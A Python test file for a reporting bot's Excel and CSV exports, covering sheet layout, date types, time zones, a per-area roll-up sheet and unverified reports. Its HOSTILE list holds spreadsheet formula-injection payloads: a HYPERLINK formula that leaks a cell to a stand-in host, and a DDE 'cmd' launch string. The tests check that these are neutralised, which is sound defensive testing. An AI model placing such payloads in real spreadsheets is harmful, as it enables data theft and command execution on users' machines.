"""Excel and CSV exports: inert cells (no formula from what someone typed), a readable layout, dates as dates,
times in the area's zone, one sheet per form and the roll-up per child area."""
import asyncio
import csv
import io
import re
import zipfile
from datetime import date, datetime

from openpyxl import load_workbook

from bot import catalog
from bot.reports.export import Progress, write
from bot.pipeline import Pipeline
from flows.types import NewContact, NewReport
from storage.db import Database
from storage.repo import Tx
from storage.summary import Filters
from tests import summary_world as W

HOSTILE = ['=HYPERLINK("http://x/leak?"&A2,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "bel\x07l"]


def export(db_url, tmp_path, names, f=None, hostile=False):
    async def go():
        p = await Pipeline.open(Database(db_url))
        try:
            await W.build(p.db)
            if hostile:
                async with p.db.session() as s, s.begin():
                    tx = Tx(s)
                    c = await tx.create_contact("terminal", "x", NewContact(HOSTILE[0], "kader", "81.05.02.2002",
                                                                            "id"), W.at(2024, 6, 1))
                    await tx.save_report(NewReport("pertemuan", 1, "81.05.02.2002", "musdes|2024-07-03|", {
                        "kind": "musdes", "date": "2024-07-03", "place": HOSTILE[1], "men": 1, "women": 1,
                        "total": 2, "youth": 0, "disabled": 0, "note": HOSTILE[2] + " " + HOSTILE[4],
                        "photo": PHOTO}), c.id,
                        W.at(2024, 7, 3))
                    await tx.save_report(NewReport("cerita", 1, "81.05.02.2002", W.at(2024, 7, 4).isoformat(), {
                        "level": "komunitas", "story": HOSTILE[3], "who": "\tTAB"}), c.id, W.at(2024, 7, 4))
            async with p.db.session() as s:
                for name in names:
                    sheet = "Pertemuan" if name.endswith(".csv") else None
                    await write(s, tmp_path / name, f or Filters("81.05"), p.forms, catalog.area_index(),
                                Progress(False), sheet)
        finally:
            await p.db.close()
    asyncio.run(go())


PHOTO = "ab12" * 16          # a stored photo's SHA-256


def test_a_photo_is_its_file_name_with_a_dashboard_link_never_a_bare_hash(db_url, tmp_path):
    export(db_url, tmp_path, ["x.xlsx", "x.zip"], hostile=True)
    meet = load_workbook(tmp_path / "x.xlsx")["Pertemuan"]
    cell = next(c for row in meet.iter_rows(min_row=3) for c in row if c.value == "foto_ab12ab12ab12.jpg")
    assert re.fullmatch(rf"http://127\.0\.0\.1:8080/dasbor/laporan/\d+/foto/{PHOTO}", cell.hyperlink.target)
    assert PHOTO not in {c.value for row in meet.iter_rows() for c in row}
    with zipfile.ZipFile(tmp_path / "x.zip") as zf:
        text = zf.read("pertemuan.csv").decode("utf-8-sig")
    assert re.search(rf"foto_ab12ab12ab12\.jpg \(http://127\.0\.0\.1:8080/dasbor/laporan/\d+/foto/{PHOTO}\)", text)


def test_hostile_answers_are_text_never_formulas(db_url, tmp_path):
    export(db_url, tmp_path, ["x.xlsx", "x.zip", "p.csv"], hostile=True)
    with zipfile.ZipFile(tmp_path / "x.xlsx") as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(zf.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    assert "\x07" not in xml
    wb = load_workbook(tmp_path / "x.xlsx")
    values = {c.value for ws in wb for row in ws.iter_rows() for c in row}
    assert HOSTILE[1] in values and HOSTILE[3] in values and "@SUM(1+1) bell" in values
    assert HOSTILE[0] in values                      # the reporter's name, as text
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value and c.value[0] in "=+-@":
                    assert c.data_type == "s"
    with zipfile.ZipFile(tmp_path / "x.zip") as zf:
        rows = list(csv.reader(io.StringIO(zf.read("pertemuan.csv").decode("utf-8-sig"))))
        stories = zf.read("cerita_perubahan.csv").decode("utf-8-sig")
    cells = {c for r in rows for c in r}
    assert "'" + HOSTILE[1] in cells and "'@SUM(1+1) bell" in cells and "'" + HOSTILE[0] in cells
    assert not any(c and c[0] in "=+-@\t\r" for c in cells)
    assert "'-2+3" in stories and "'\tTAB" in stories
    single = (tmp_path / "p.csv").read_text(encoding="utf-8-sig")
    assert "'" + HOSTILE[1] in single


def test_layout_types_zones_and_the_rollup_sheet(db_url, tmp_path):
    export(db_url, tmp_path, ["r.xlsx"], Filters("81.05", round="Juli 2024"))
    wb = load_workbook(tmp_path / "r.xlsx")
    assert wb.sheetnames == ["Ringkasan per wilayah", "Pertemuan", "Pemantauan", "Cerita perubahan",
                             "Matriks rekomendasi", "Kelengkapan", "Tindak lanjut", "Seleksi cerita"]
    forms = ("Pertemuan", "Pemantauan", "Cerita perubahan")
    for ws in wb:       # a form's sheet: variable names, then labels, in two bold frozen header rows
        assert ws.freeze_panes == ("A3" if ws.title in forms else "A2") and ws.auto_filter.ref.startswith("A1:")
        assert ws["A1"].font.bold and ws.column_dimensions["B"].width >= 10
    meet = wb["Pertemuan"]
    header = [c.value for c in meet[1]]
    labels = [c.value for c in meet[2]]
    assert header[:6] == ["kode_wilayah", "wilayah", "kecamatan", "kabupaten", "kind", "date"]
    assert labels[:6] == ["Kode wilayah", "Desa/Wilayah", "Kecamatan", "Kabupaten", "Jenis pertemuan", "Tanggal"]
    assert meet["B2"].font.bold
    rows = [[c.value for c in r] for r in meet.iter_rows(min_row=3)]
    dates = [r[header.index("date")] for r in rows]
    assert all(isinstance(d, datetime) for d in dates)   # a date cell (openpyxl reads dates back as datetime)
    assert sorted(d.date() for d in dates) == [date(2024, 7, 5), date(2024, 7, 20), date(2024, 7, 25)]
    assert all(isinstance(r[header.index("men")], int) for r in rows)
    assert {r[header.index("zona")] for r in rows} == {"WIT"}
    sent = {r[0]: r[header.index("dikirim")] for r in rows}
    assert sent["81.05.01.2003"] == datetime(2024, 7, 5, 10, 0)        # 10:00 in Maluku, not 01:00 UTC
    complete = {r[0].value: [c.value for c in r] for r in wb["Kelengkapan"].iter_rows(min_row=2)}
    head = [c.value for c in wb["Kelengkapan"][1]]
    assert complete["81.05.01.2004"][head.index("Status")] == "Terlambat"
    assert complete["81.05.01.2004"][head.index("Waktu lapor")] == datetime(2024, 8, 15, 10, 0)
    assert complete["81.05.01.2004"][head.index("Zona")] == "WIT"
    roll = wb["Ringkasan per wilayah"]
    head = [c.value for c in roll[1]]
    by_code = {r[0].value: [c.value for c in r] for r in roll.iter_rows(min_row=2)}
    col = head.index("Pertemuan: Jumlah peserta")
    assert by_code["81.05.01"][col] == 114 and by_code["81.05.02"][col] == 0
    assert by_code["81.05"][1] == "Jumlah Kab. Seram Bagian Timur" and by_code["81.05"][col] == 114
    status = head.index("Pemantauan: Keadaan — Berhenti")
    assert by_code["81.05.02"][status] == 1
    assert re.search("Pemantauan: Desa sudah melapor", " ".join(head))


def test_unverified_reports_are_marked_and_competing_ones_left_out(db_url, tmp_path):
    """As in the summary (issue 12): a report of a kader not yet approved is marked in the Pelapor column and
    kept out of the recommendation matrix; a competing submission waits for the fasilitator and is not exported."""
    from storage.models import Report

    async def go():
        p = await Pipeline.open(Database(db_url))
        try:
            async with p.db.session() as s, s.begin():
                tx = Tx(s)
                new = await tx.create_contact("terminal", "baru", NewContact("Kader Baru", "kader", "81.05.02.2002",
                                                                             "id"), W.at(2024, 6, 1))
                for day, place in (("03", "Balai desa"), ("04", "Rumah orang lain")):
                    await tx.save_report(NewReport("pertemuan", 1, "81.05.02.2002", f"musdes|2024-07-{day}|", {
                        "kind": "musdes", "date": f"2024-07-{day}", "place": place, "men": 1, "women": 1,
                        "total": 2, "youth": 0, "disabled": 0}), new.id, W.at(2024, 7, 3))
                await s.execute(Report.__table__.update().values(verified=False))
                await s.execute(Report.__table__.update().where(Report.key.like("%07-04%")).values(conflict="pending"))
            async with p.db.session() as s:
                await write(s, tmp_path / "x.xlsx", Filters("81.05"), p.forms, catalog.area_index(), Progress(False),
                            None)
        finally:
            await p.db.close()
    asyncio.run(go())
    ws = load_workbook(tmp_path / "x.xlsx")["Pertemuan"]
    values = {c.value for row in ws.iter_rows() for c in row}
    assert "Kader Baru (belum diverifikasi)" in values and "Balai desa" in values
    assert "Rumah orang lain" not in values
